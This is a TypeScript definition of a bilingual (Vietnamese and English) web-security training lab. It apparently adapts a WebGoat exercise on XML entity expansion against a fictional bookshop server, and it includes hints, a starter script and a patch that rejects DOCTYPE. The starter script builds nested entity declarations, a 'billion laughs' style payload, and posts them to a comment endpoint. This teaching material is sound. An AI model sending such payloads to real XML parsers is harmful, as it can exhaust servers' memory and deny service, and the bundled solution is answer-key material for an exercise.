import type { LabDefinition } from '../../../src/features/web-lab/core/lab';

export const lab: LabDefinition = {
  doc: 'web-security/webgoat-2023.8/A5-Security-Misconfiguration/XXE-09',
  weakness: { vi: 'Thực thể lồng nhau làm phình tài liệu', en: 'Nested entities that swell a document' },
  technique: { vi: 'Mỗi tầng thực thể nhân mười', en: 'Each level of entities multiplies by ten' },
  owasp: { 2021: 'A05', 2025: 'A02' },
  cwe: [776],
  task: {
    vi: 'Máy chủ đã tắt thực thể ngoài. Với một tài liệu dưới 2.000 ký tự, hãy làm nó lưu một nhận xét trên 10.000 ký tự, rồi chạm đến giới hạn của bộ phân tích; sau đó vá.',
    en: 'External entities are off on this server. With a document of less than 2,000 characters, make it store a comment of more than 10,000, then reach the limit of the parser; then patch it.',
  },
  host: 'nha-sach.example',
  start: '/',
  engines: ['xml'],
  goals: [
    {
      id: 'swell',
      text: {
        vi: 'Lưu hơn 10.000 ký tự từ một tài liệu nhỏ',
        en: 'Store over 10,000 characters from a small document',
      },
    },
    { id: 'limit', text: { vi: 'Chạm đến giới hạn của bộ phân tích', en: 'Reach the limit of the parser' } },
  ],
  hints: [
    {
      vi: 'Gửi XML với `Content-Type: application/xml`. Khai báo `a` là một chữ ngắn, `b` là mười lần `&a;`, `c` là mười lần `&b;`… Một vòng lặp trong ngăn Kịch bản viết các khai báo nhanh hơn tay.',
      en: 'Send XML with `Content-Type: application/xml`. Declare `a` as a short text, `b` as ten times `&a;`, `c` as ten times `&b;`… A loop under Script writes the declarations faster than a hand.',
    },
    {
      vi: 'Độ dài của tài liệu không nói gì về độ dài sau khi thay. Việc nào cần thực thể tự khai báo ở đây? Nếu không việc nào, đừng cho khai báo.',
      en: 'The length of a document says nothing about the length after replacement. What needs declared entities here? If nothing does, allow no declarations.',
    },
  ],
  script: `// send(method, path, { json, form, body, headers })
const levels = 2;
let declarations = '<!ENTITY a0 "ha">';
for (let n = 1; n <= levels; n += 1) {
  declarations += \`<!ENTITY a\${n} "\${\`&a\${n - 1};\`.repeat(10)}">\`;
}
const body = \`<!DOCTYPE c [\${declarations}]><c>&a\${levels};</c>\`;
const headers = [['Content-Type', 'application/xml']];
const { status } = await send('POST', '/comments', { headers, body });
console.log(body.length, status);`,
  solution: {
    patch: 'no-doctype',
    why: {
      vi: 'Không nhận DOCTYPE thì không khai báo được thực thể nào, trong hay ngoài. Giới hạn kích thước, số lần tham chiếu hay độ sâu đều phải đoán một con số; cách này không cần số nào.',
      en: 'Where no DOCTYPE is accepted, no entity can be declared, internal or external. Limits on size, references or depth all need a guessed number; this needs none.',
    },
  },
};
